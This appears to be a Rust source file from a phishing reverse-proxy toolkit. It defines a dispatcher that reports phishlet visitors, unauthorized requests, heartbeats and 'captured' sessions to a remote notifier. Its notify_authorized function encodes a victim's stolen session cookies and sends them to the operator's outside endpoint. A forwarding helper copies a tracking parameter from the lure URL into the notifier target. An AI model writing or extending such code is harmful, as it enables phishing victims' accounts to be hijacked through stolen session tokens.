use crate::core::{
    error::NotifyResult,
    event::{EventPayload, HeartbeatEvent, TestEvent, UnauthorizedEvent, VisitorEvent},
    notification::{CookieEncoder, StatusProvider, Transport},
    notifier::NotifierConfig,
    session::Session,
};
use crate::infrastructure::payload::build_body;
use log::{debug, info};
use reqwest::Url;
use std::borrow::Cow;

pub struct EventDispatcher {
    transport: Box<dyn Transport>,
    status: Box<dyn StatusProvider>,
    cookies: Box<dyn CookieEncoder>,
}

impl EventDispatcher {
    pub fn new(
        transport: Box<dyn Transport>,
        status: Box<dyn StatusProvider>,
        cookies: Box<dyn CookieEncoder>,
    ) -> Self {
        Self {
            transport,
            status,
            cookies,
        }
    }

    async fn dispatch(&self, notifier: &NotifierConfig, event: EventPayload) -> NotifyResult<()> {
        let body = build_body(notifier, &event)?;
        self.transport.send(notifier, &body).await
    }

    pub async fn notify_unauthorized(
        &self,
        notifier: &NotifierConfig,
        phishlet: &str,
        req_url: &str,
        useragent: &str,
        remote_addr: &str,
    ) -> NotifyResult<()> {
        debug!("Notifying {} about unauthorized request", notifier.name);

        let info = UnauthorizedEvent {
            phishlet: phishlet.to_string(),
            req_url: req_url.to_string(),
            useragent: useragent.to_string(),
            remote_addr: remote_addr.to_string(),
        };
        self.dispatch(notifier, info.into()).await
    }

    pub async fn notify_visitor(
        &self,
        notifier: &NotifierConfig,
        session: &Session,
        request_url: &Url,
    ) -> NotifyResult<()> {
        debug!("Notifying {} about visitor {}", notifier.name, session.id);

        let info = VisitorEvent {
            session: session.clone(),
            tokens: String::new(),
        };
        let notifier = with_forwarded_param(notifier, request_url);
        self.dispatch(&notifier, info.into()).await
    }

    pub async fn notify_authorized(
        &self,
        notifier: &NotifierConfig,
        session: &Session,
    ) -> NotifyResult<()> {
        debug!("Notifying {} about captured session {}", notifier.name, session.id);

        let info = VisitorEvent {
            session: session.clone(),
            tokens: self.cookies.encode(&session.tokens),
        };
        self.dispatch(notifier, info.into()).await
    }

    pub async fn notify_heartbeat(&self, notifier: &NotifierConfig) -> NotifyResult<()> {
        debug!("Sending heartbeat for {}", notifier.name);

        let info = HeartbeatEvent(self.status.status());
        self.dispatch(notifier, info.into()).await
    }

    pub async fn notify_test(&self, notifier: &NotifierConfig) -> NotifyResult<()> {
        debug!("Sending test notification for {}", notifier.name);

        self.dispatch(notifier, TestEvent::now().into()).await?;
        info!("Test notification sent to {}", notifier.target);
        Ok(())
    }
}

/// Returns the notifier to use for one visitor delivery. When the forwarded
/// query parameter is present in `request_url`, that is a copy whose target
/// carries it; the caller's config is never touched.
pub fn with_forwarded_param<'a>(
    notifier: &'a NotifierConfig,
    request_url: &Url,
) -> Cow<'a, NotifierConfig> {
    if notifier.forward_param.is_empty() {
        return Cow::Borrowed(notifier);
    }

    let value = match request_url
        .query_pairs()
        .find(|(key, _)| key == notifier.forward_param.as_str())
    {
        Some((_, value)) => value.into_owned(),
        None => return Cow::Borrowed(notifier),
    };

    let target = match Url::parse(&notifier.target) {
        Ok(mut target) if !target.cannot_be_a_base() => {
            target
                .query_pairs_mut()
                .append_pair(&notifier.forward_param, &value);
            target.to_string()
        }
        _ => format!("{}?{}={}", notifier.target, notifier.forward_param, value),
    };

    let mut forwarded = notifier.clone();
    forwarded.target = target;
    Cow::Owned(forwarded)
}
